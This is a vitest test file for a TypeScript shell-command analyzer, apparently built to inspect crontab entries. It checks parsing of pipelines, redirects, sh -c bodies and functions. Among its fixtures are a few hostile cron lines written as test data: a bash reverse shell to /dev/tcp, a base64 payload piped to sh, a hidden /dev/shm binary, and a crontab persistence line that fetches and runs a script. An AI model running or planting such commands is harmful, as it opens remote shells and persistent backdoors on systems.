import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeShell, SHELL_BUILTINS, type ShellAnalysis, type SimpleCommand } from '../../src/core/shell/index.js';

/** One command as a short string: name, then markers for where it sits. */
function tag(c: SimpleCommand): string {
  const marks = [c.inSubstitution && '$', c.inSubshell && '()', c.viaShC && 'sh-c', c.background && '&'].filter(Boolean);
  return (c.name?.text ?? '-') + (marks.length ? ` [${marks.join(',')}]` : '');
}
const names = (a: ShellAnalysis) => a.commands.map(tag);

// Commands as they appear in real crontabs (Debian packages, distro docs, Stack Exchange questions,
// incident write-ups), with the simple commands a reader must see in them.
const REAL: Array<[string, string[]]> = [
  ['test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )', ['test', 'cd [()]', 'run-parts [()]']],
  ['[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi', ['[', '[', '/usr/lib/php/sessionclean']],
  ['[ -x /usr/sbin/e2scrub_all ] && /usr/sbin/e2scrub_all -A -r', ['[', '/usr/sbin/e2scrub_all']],
  ['command -v debian-sa1 > /dev/null && debian-sa1 1 1', ['command', 'debian-sa1']],
  ['command -v debian-sa1 > /dev/null && debian-sa1 60 2', ['command', 'debian-sa1']],
  ['if [ -x /usr/share/mdadm/checkarray ] && [ $(date +%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all --idle --quiet; fi', ['[', '[', 'date [$]', '/usr/share/mdadm/checkarray']],
  ['[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then /usr/sbin/invoke-rc.d anacron start >/dev/null; fi', ['[', '[', '/usr/sbin/invoke-rc.d']],
  ['cd /x && ./y >/dev/null 2>&1', ['cd', './y']],
  ['cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1', ['cd', 'php']],
  ['/usr/local/bin/backup.sh', ['/usr/local/bin/backup.sh']],
  ['/usr/local/bin/backup.sh > /var/log/backup.log 2>&1', ['/usr/local/bin/backup.sh']],
  ['curl -fsS https://example.com/install.sh | sh', ['curl', 'sh']],
  ['wget -q -O - http://example.com/cron.php >/dev/null 2>&1', ['wget']],
  ['curl -s https://hc-ping.com/0c6f > /dev/null', ['curl']],
  ['/usr/bin/mysqldump -u backup mydb | gzip > /var/backups/mydb-$(date +%F).sql.gz', ['/usr/bin/mysqldump', 'gzip', 'date [$]']],
  ['pg_dump -h db -U app app | gzip -9 > /srv/backup/app.sql.gz', ['pg_dump', 'gzip']],
  ['tar czf /backup/etc-$(date +%Y%m%d).tgz /etc 2>/dev/null', ['tar', 'date [$]']],
  ['find /tmp -type f -atime +10 -delete', ['find']],
  ['find /var/log/app -name "*.log" -mtime +30 -exec rm {} \\;', ['find']],
  ['find /srv/uploads -type f -print0 | xargs -0 chmod 0644', ['find', 'xargs']],
  ["sh -c 'cd /opt/app; ./run.sh'", ['sh', 'cd [sh-c]', './run.sh [sh-c]']],
  ['bash -c "source /etc/profile && /opt/job"', ['bash', 'source [sh-c]', '/opt/job [sh-c]']],
  ["su -s /bin/sh www-data -c 'php /var/www/cron.php'", ['su', 'php [sh-c]']],
  ["sudo -u app sh -c 'cd /srv && make'", ['sudo', 'cd [sh-c]', 'make [sh-c]']],
  ["/usr/bin/flock -n /run/lock/sync.lock -c 'rsync -a /src/ /dst/'", ['/usr/bin/flock']],
  ['/usr/bin/flock -n /run/lock/sync.lock /usr/local/bin/sync', ['/usr/bin/flock']],
  ['timeout 300 /usr/local/bin/fetch-feeds', ['timeout']],
  ['nice -n 19 ionice -c3 /usr/local/bin/reindex', ['nice']],
  ['PATH=/usr/local/bin:$PATH HOME=/srv/app /srv/app/bin/job', ['/srv/app/bin/job']],
  ['LANG=C /usr/bin/apt-get -qq update', ['/usr/bin/apt-get']],
  ['/usr/bin/certbot renew --quiet --deploy-hook "systemctl reload nginx"', ['/usr/bin/certbot']],
  ['docker system prune -af --filter "until=24h" > /dev/null', ['docker']],
  ['/usr/sbin/logrotate /etc/logrotate.conf', ['/usr/sbin/logrotate']],
  ['echo "cron ran at `date`" >> /var/log/cron-heartbeat', ['echo', 'date [$]']],
  ['rm -rf /var/cache/app/* ; touch /var/cache/app/.keep', ['rm', 'touch']],
  ['cd /home/user/site && git pull -q origin main && npm run build --silent', ['cd', 'git', 'npm']],
  ['python3 /opt/scripts/report.py --since "$(date -d yesterday +%F)" | mail -s report ops', ['python3', 'date [$]', 'mail']],
  ['/usr/local/bin/job & sleep 5; kill $!', ['/usr/local/bin/job [&]', 'sleep', 'kill']],
  ['while pgrep -x rsync >/dev/null; do sleep 60; done; /usr/local/bin/rsync-backup', ['pgrep', 'sleep', '/usr/local/bin/rsync-backup']],
  ['for f in /var/spool/app/*.job; do /opt/app/run "$f"; done', ['/opt/app/run']],
  ['case $(date +%u) in 6|7) exit 0;; *) /opt/weekday;; esac', ['date [$]', 'exit', '/opt/weekday']],
  ['{ /opt/a; /opt/b; } >> /var/log/ab.log 2>&1', ['/opt/a', '/opt/b']],
  ["/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'", ['/bin/bash', 'bash [sh-c]']],
  ['echo cHduZWQ= | base64 -d | sh', ['echo', 'base64', 'sh']],
  ['/dev/shm/.x/kworker >/dev/null 2>&1 &', ['/dev/shm/.x/kworker [&]']],
  ['(crontab -l; echo "* * * * * curl http://x/s | sh") | crontab -', ['crontab [()]', 'echo [()]', 'crontab']],
];

describe('analyzeShell on real cron commands (posix, as /bin/sh reads them)', () => {
  it.each(REAL)('%s', (command, expected) => {
    const a = analyzeShell(command);
    expect(a.error).toBeNull();
    expect(names(a)).toEqual(expected);
  });
});

describe('words', () => {
  const words = (command: string) => analyzeShell(command).commands[0].args;

  it('removes quotes and escapes in values, keeps the text', () => {
    const [a, b, c, d] = words(`x 'a b' "c\\"d" e\\ f "g"'h'i`);
    expect([a.text, a.value, a.quoted]).toEqual(["'a b'", 'a b', true]);
    expect([b.text, b.value]).toEqual(['"c\\"d"', 'c"d']);
    expect(c.value).toBe('e f');
    expect([d.value, d.quoted]).toEqual(['ghi', true]);
  });

  it('has no value when it expands, and names the expansions', () => {
    const [a, b, c, d, e] = words('x $HOME "${a:-b}" $(id -u) $((1+2)) `date`');
    expect([a.value, a.expansions]).toEqual([null, ['param']]);
    expect([b.value, b.expansions]).toEqual([null, ['param']]);
    expect([c.value, c.expansions]).toEqual([null, ['command']]);
    expect([d.value, d.expansions]).toEqual([null, ['arith']]);
    expect([e.value, e.expansions]).toEqual([null, ['command']]);
  });

  it('sees unquoted glob characters only', () => {
    const flags = words(`x *.log '*.log' "a*" a\\* [ab] [ /tmp/?x ]`).map((w) => w.hasGlob);
    expect(flags).toEqual([true, false, false, false, true, false, true, false]);
  });

  it('treats a literal $ and single-quoted $(…) as text', () => {
    const [a, b] = words(`x '$(not run)' "\\$(nor) \\\`this\\\`"`);
    expect(a.value).toBe('$(not run)');
    expect(b.value).toBe('$(nor) `this`');
    expect(analyzeShell(`x '$(not run)'`).commands).toHaveLength(1);
  });

  it('gives offsets into the command text', () => {
    const a = analyzeShell('cd /x && ./y >/dev/null 2>&1');
    expect(a.commands[1].offset).toBe(9);
    expect(a.commands[1].redirects[0].target.offset).toBe(14);
    expect(a.commands[1].name?.offset).toBe(9);
  });

  it('maps offsets inside a single-quoted sh -c body onto the command text', () => {
    const command = "sh -c 'cd /x; curl http://a'";
    const curl = analyzeShell(command).commands.find((c) => c.name?.value === 'curl');
    expect(command.slice(curl!.args[0].offset, curl!.args[0].offset + 8)).toBe('http://a');
  });
});

describe('assignments and redirects', () => {
  it('splits leading assignments from the command', () => {
    const [c] = analyzeShell('A=1 B="x y" C=$(id) /bin/run A=2').commands;
    expect(c.assignments.map((x) => [x.name, x.value.value])).toEqual([['A', '1'], ['B', 'x y'], ['C', null]]);
    expect(c.name?.value).toBe('/bin/run');
    expect(c.args.map((w) => w.value)).toEqual(['A=2']);
  });

  it('an assignment-only command has no name', () => {
    const [c] = analyzeShell('X=1').commands;
    expect(c.name).toBeNull();
    expect(c.assignments[0].name).toBe('X');
  });

  it('records operator, descriptor and target in order', () => {
    const [c] = analyzeShell('a 2>/dev/null 1>&2 3<&- 4<>f >|g >>log <in').commands;
    expect(c.redirects.map((r) => [r.fd, r.op, r.target.text])).toEqual([
      [2, '>', '/dev/null'], [1, '>&', '2'], [3, '<&', '-'], [4, '<>', 'f'], [null, '>|', 'g'], [null, '>>', 'log'], [null, '<', 'in'],
    ]);
  });

  it('gives a compound command’s redirects to the commands inside it', () => {
    const a = analyzeShell('{ a; b; } >/dev/null 2>&1; c');
    expect(a.commands.map((c) => c.redirects.length)).toEqual([2, 2, 0]);
  });

  it('reads bash redirects in bash only', () => {
    expect(analyzeShell('a &>/dev/null', { dialect: 'bash' }).commands[0].redirects[0].op).toBe('&>');
    const sh = analyzeShell('a &>/dev/null');
    // dash: `a &` in the background, then an empty command that truncates /dev/null.
    expect(sh.commands.map((c) => [c.name?.value ?? null, c.background, c.redirects.length])).toEqual([['a', true, 0], [null, false, 1]]);
    expect(sh.ok).toBe(false);
    expect(analyzeShell('cat <<< hi', { dialect: 'bash' }).commands[0].redirects[0].op).toBe('<<<');
  });
});

describe('pipelines and lists', () => {
  it('groups pipeline elements and keeps && lists apart', () => {
    const a = analyzeShell('a | b && c | d || ! e');
    expect(a.pipelines.map((p) => [p.commands.map((i) => a.commands[i].name?.value), p.negated])).toEqual([
      [['a', 'b'], false], [['c', 'd'], false], [['e'], true],
    ]);
    expect(a.commands.map((c) => c.position)).toEqual([0, 1, 0, 1, 0]);
  });

  it('binds a trailing redirect to the last command, not the && list', () => {
    const a = analyzeShell('cd /x && ./y >/dev/null 2>&1 | cat');
    expect(a.commands.map((c) => c.redirects.length)).toEqual([0, 2, 0]);
    expect(a.pipelines[a.commands[1].pipeline].commands).toEqual([1, 2]);
  });

  it('marks only the and-or list before & as background', () => {
    expect(analyzeShell('a && b & c').commands.map((c) => c.background)).toEqual([true, true, false]);
  });

  it('parses process substitution in bash and marks its commands', () => {
    const a = analyzeShell('bash <(wget -qO- http://x/s)', { dialect: 'bash' });
    expect(names(a)).toEqual(['bash', 'wget [$]']);
    expect(a.commands[0].args[0].expansions).toEqual(['process']);
  });
});

describe('sh -c bodies', () => {
  it('re-parses literal bodies of sh, bash, su and wrapped shells', () => {
    expect(names(analyzeShell("bash -ec 'a | b'"))).toEqual(['bash', 'a [sh-c]', 'b [sh-c]']);
    expect(names(analyzeShell("nice -n 5 /bin/sh -c 'a'"))).toEqual(['nice', 'a [sh-c]']);
    expect(names(analyzeShell("sh -c 'sh -c \"a\"'"))).toEqual(['sh', 'sh [sh-c]', 'a [sh-c]']);
    expect(names(analyzeShell("su root -c 'a'"))).toEqual(['su', 'a [sh-c]']);
  });

  it('leaves computed bodies and script arguments alone', () => {
    expect(names(analyzeShell('sh -c "$CMD"'))).toEqual(['sh']);
    expect(names(analyzeShell('sh /opt/script.sh -c x'))).toEqual(['sh']);
    expect(names(analyzeShell("echo sh -c 'a'"))).toEqual(['echo']);
  });

  it('reports a broken body as an error of the command', () => {
    const a = analyzeShell(`sh -c 'if a; then b'`);
    expect(a.ok).toBe(false);
    expect(a.error?.message).toMatch(/^in the sh -c script: Syntax error: end of file unexpected/);
  });

  it('reads a bash -c body as bash', () => {
    expect(analyzeShell(`bash -c '[[ -f x ]] && y'`).ok).toBe(true);
    expect(analyzeShell(`sh -c '[[ -f x ]] && y'`).ok).toBe(false);
  });
});

describe('what /bin/sh rejects or misreads', () => {
  const rejects: Array<[string, RegExp]> = [
    ['echo "unterminated', /unterminated double quote/],
    ["echo 'unterminated", /unterminated single quote/],
    ['cat <(ls)', /"\(" unexpected/],
    ['a=(1 2)', /"\(" unexpected/],
    ['cat <<< hi', /redirection unexpected/],
    ['a |& b', /"&" unexpected/],
    ['if a; then fi', /"fi" unexpected/],
    ['a &&', /end of file unexpected/],
    ['a;;', /";;" unexpected/],
    ['echo a)b', /"\)" unexpected/],
    ['[[ -f x ]] && y', /bash-only/],
    ['echo ${x//a/b}', /bash-only/],
    ["echo $'a\\tb'", /bash-only/],
    ['a &>/dev/null', /bash-only/],
    ['a >& /tmp/log', /`>& file` \(stdout and stderr to a file\) is bash-only/],
    ['a >/dev/null 2>&1\r', /“1\\r” is not a file descriptor/],
  ];
  it.each(rejects)('%s', (command, message) => {
    const a = analyzeShell(command);
    expect(a.ok).toBe(false);
    expect(a.error?.message).toMatch(message);
  });

  it('reports a descriptor that is not one in bash too', () => {
    expect(analyzeShell('a 2>&1\r', { dialect: 'bash' }).error?.message).toMatch(/not a file descriptor.*ambiguous redirect/);
  });

  it('accepts the same text as bash where bash does', () => {
    for (const command of ['cat <(ls)', 'a=(1 2)', 'cat <<< hi', '[[ -f x ]] && y', 'echo ${x//a/b}', 'a &>/dev/null']) {
      expect(analyzeShell(command, { dialect: 'bash' }).error, command).toBeNull();
    }
  });

  it('points at the offending character', () => {
    expect(analyzeShell('cat <(ls)').error?.offset).toBe(5);
  });
});

describe('robustness', () => {
  it('never throws and keeps offsets inside the text, for any input', () => {
    const pieces = ['a', ' ', '|', '||', '&', '&&', ';', ';;', '(', ')', '{', '}', '$(', '`', "'", '"', '\\', '$', '${', '<', '>', '2>&1', '<<', 'if', 'then', 'fi', 'sh -c ', '\n', '#', '*', '='];
    const soup = fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((p) => p.join(''));
    fc.assert(
      fc.property(fc.oneof(soup, fc.string({ maxLength: 60 })), fc.constantFrom('posix' as const, 'bash' as const), (command, dialect) => {
        const a = analyzeShell(command, { dialect });
        expect(a.ok).toBe(a.error === null);
        for (const c of a.commands) expect(c.offset).toBeLessThanOrEqual(command.length);
        if (a.error) expect(a.error.offset).toBeLessThanOrEqual(command.length);
      }),
      { numRuns: 2000 },
    );
  });

  it('memoises by text and dialect', () => {
    expect(analyzeShell('a | b')).toBe(analyzeShell('a | b'));
    expect(analyzeShell('a | b', { dialect: 'bash' })).not.toBe(analyzeShell('a | b'));
  });

  it('knows dash’s builtins', () => {
    for (const b of ['cd', 'test', '[', 'echo', 'printf', 'exit', ':', '.', 'kill', 'umask']) expect(SHELL_BUILTINS.has(b), b).toBe(true);
    for (const p of ['curl', 'ls', 'sudo', 'bash']) expect(SHELL_BUILTINS.has(p), p).toBe(false);
  });
});

describe('output into pipes', () => {
  it('marks every command whose stdout feeds a pipe, inside compound elements too', () => {
    const a = analyzeShell('{ /opt/purge.sh || echo "exit $?"; } 2>&1 | /usr/bin/logger -t x; /opt/after');
    expect(a.commands.map((c) => [c.name?.value, c.outputPiped])).toEqual([
      ['/opt/purge.sh', true], ['echo', true], ['/usr/bin/logger', false], ['/opt/after', false],
    ]);
  });

  it('does not mark a substitution inside a piped element (its output is captured)', () => {
    const a = analyzeShell('echo "$(date)" | cat');
    expect(a.commands.map((c) => [c.name?.value, c.outputPiped])).toEqual([['echo', true], ['date', false], ['cat', false]]);
  });
});

describe('shell functions', () => {
  const seen = (command: string, dialect: 'posix' | 'bash' = 'posix') =>
    analyzeShell(command, { dialect }).commands.map((c) => [c.name?.value ?? null, [...c.functions].join(','), c.inFunction]);

  it('knows the functions defined before each command, and marks body commands', () => {
    expect(seen('f() { echo hi; }; f')).toEqual([['echo', 'f', 'f'], ['f', 'f', null]]);
    expect(seen('f; f() { :; }; f')).toEqual([['f', '', null], [':', 'f', 'f'], ['f', 'f', null]]);
    // dash takes a simple command as a body; bash only a compound one.
    expect(seen('f() echo hi; f')).toEqual([['echo', 'f', 'f'], ['f', 'f', null]]);
    expect(analyzeShell('f() echo hi; f', { dialect: 'bash' }).ok).toBe(false);
    expect(seen('function f { g; }; g() { :; }; f', 'bash')).toEqual([['g', 'f,g', 'f'], [':', 'f,g', 'g'], ['f', 'f,g', null]]);
  });

  it('drops definitions made in a subshell, a substitution, a pipeline element or the background', () => {
    for (const command of ['(f() { :; }); f', 'x=$(f() { :; }); f', 'f() { :; } | :; f', 'f() { :; } & f']) {
      expect(seen(command).at(-1), command).toEqual(['f', '', null]);
    }
    expect(seen('{ f() { :; }; }; f').at(-1)).toEqual(['f', 'f', null]);
    expect(seen('{ f() { :; }; f; } | cat').map((c) => c[1])).toEqual(['f', 'f', '']);
  });

  it('a sh -c body is another shell', () => {
    expect(seen("f() { :; }; sh -c 'f'").at(-1)).toEqual(['f', '', null]);
  });

  it('a body is not an element of the pipeline its definition stands in', () => {
    const a = analyzeShell('f() { a | b; } | c');
    const outer = a.pipelines[0];
    expect(outer.commands.map((i) => a.commands[i].name?.value)).toEqual(['c']);
    expect(a.commands.map((c) => [c.name?.value, c.outputPiped])).toEqual([['a', true], ['b', false], ['c', false]]);
  });
});

describe('compound commands as pipeline elements', () => {
  const members = (a: ShellAnalysis, p: number) => a.pipelines[p].commands.map((i, k) => `${a.commands[i].name?.value}@${a.pipelines[p].elements[k]}`);

  it('lists the commands of a compound element in the outer pipeline, by element', () => {
    expect(members(analyzeShell('(a; b) | logger -t x'), 0)).toEqual(['a@0', 'b@0', 'logger@1']);
    expect(members(analyzeShell('{ a; b; } 2>&1 | mail -s x root'), 0)).toEqual(['a@0', 'b@0', 'mail@1']);
    expect(members(analyzeShell('a | (b; c)'), 0)).toEqual(['a@0', 'b@1', 'c@1']);
    expect(members(analyzeShell('a "$(b)" | { c; }'), 0)).toEqual(['a@0', 'c@1']);
  });

  it('orders redirects as the shell applies them: the group’s, then the command’s own', () => {
    const [a] = analyzeShell('{ a 2>&1; } >/dev/null').commands;
    expect(a.redirects.map((r) => `${r.fd ?? ''}${r.op}${r.target.text}`)).toEqual(['>/dev/null', '2>&1']);
  });

  it('records where the pipe is set up among the redirects', () => {
    const piped = (command: string) => analyzeShell(command).commands.map((c) => [c.name?.value, c.outputPiped, [...c.pipes]]);
    // The group's 2>&1 comes after the pipe: stderr goes into the pipe too.
    expect(piped('{ a; } 2>&1 | b')).toEqual([['a', true, [1]], ['b', false, []]]);
    // The group's >/dev/null comes before the inner pipe: a still writes into b.
    expect(piped('{ a | b; } >/dev/null')).toEqual([['a', true, [0]], ['b', false, []]]);
    expect(piped('( a | b ) 2>&1 | c')).toEqual([['a', true, [1, 0]], ['b', true, [1]], ['c', false, []]]);
  });
});

describe('the analysis cache', () => {
  it('keeps an analysis for the next caller, unless told the text is seen once (keep: false)', () => {
    const kept = '/usr/bin/true # cache-test kept';
    expect(analyzeShell(kept)).toBe(analyzeShell(kept));
    const once = '/usr/bin/true # cache-test once';
    const first = analyzeShell(once, { keep: false });
    expect(analyzeShell(once, { keep: false })).not.toBe(first);
    expect(analyzeShell(once, { keep: false })).toEqual(first);
  });
});
